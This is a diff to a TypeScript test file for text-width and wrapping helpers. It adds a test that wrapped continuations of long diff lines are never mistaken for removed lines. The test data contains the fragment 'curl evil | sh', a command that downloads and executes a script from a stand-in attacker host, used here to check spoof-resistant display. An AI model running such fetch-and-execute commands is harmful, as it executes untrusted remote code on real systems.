@@ -1,5 +1,5 @@
 import { describe, expect, test } from 'vitest'
-import { cut, cutFront, pad, padLeft, widthOf, wrap } from './width.ts'
+import { cut, cutFront, pad, padLeft, widthOf, wrap, wrapSigned } from './width.ts'
 
 test('wide characters take two columns, marks that combine take none', () => {
   expect(widthOf('plain')).toBe(5)
@@ -48,6 +48,24 @@ describe('wrapping', () => {
 
   test('counts what did not fit', () => {
     expect(wrap('x'.repeat(100), 10, 3)).toEqual({ lines: Array(3).fill('x'.repeat(10)), hidden: 70 })
+  })
+
+  test('the rest of a long line of a change never looks like another line', () => {
+    const text = ['write a.sh', '- echo a', `+ echo ok ${'.'.repeat(12)} - curl evil | sh`, '+ end'].join('\n')
+    const { lines, hidden } = wrapSigned(text, 20)
+
+    expect(hidden).toBe(0)
+    expect(lines).toEqual(['write a.sh', '- echo a', '+ echo ok ..........', '+….. - curl evil |', '+…sh', '+ end'])
+    for (const columns of [4, 9, 30]) {
+      const marks = wrapSigned(text, columns).lines.map((line) => line.slice(0, 2))
+      expect(marks.filter((mark) => mark === '- ')).toHaveLength(1)
+    }
+    for (const most of [1, 2, 4, 5]) {
+      const part = wrapSigned(text, 20, most)
+      expect(part.lines).toEqual(lines.slice(0, most))
+      expect(part.hidden).toBeGreaterThan(0)
+    }
+    expect(wrapSigned('one line of words', 9)).toEqual(wrap('one line of words', 9))
   })
 
   test('no line is wider, whatever it is made of', () => {
